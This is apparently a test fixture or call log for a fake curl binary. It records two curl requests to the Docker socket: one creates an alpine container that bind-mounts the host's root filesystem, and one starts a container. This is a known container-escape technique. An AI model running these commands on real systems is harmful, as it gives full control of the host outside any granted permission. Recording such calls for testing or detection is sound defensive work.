# SPDX-License-Identifier: Apache-2.0
# hits: 2
# fake: /usr/bin/curl
curl -s -X POST --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' http://localhost/containers/create -d '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}'
curl -X POST --unix-socket /run/docker.sock http://localhost/v1.41/containers/1f3a/start
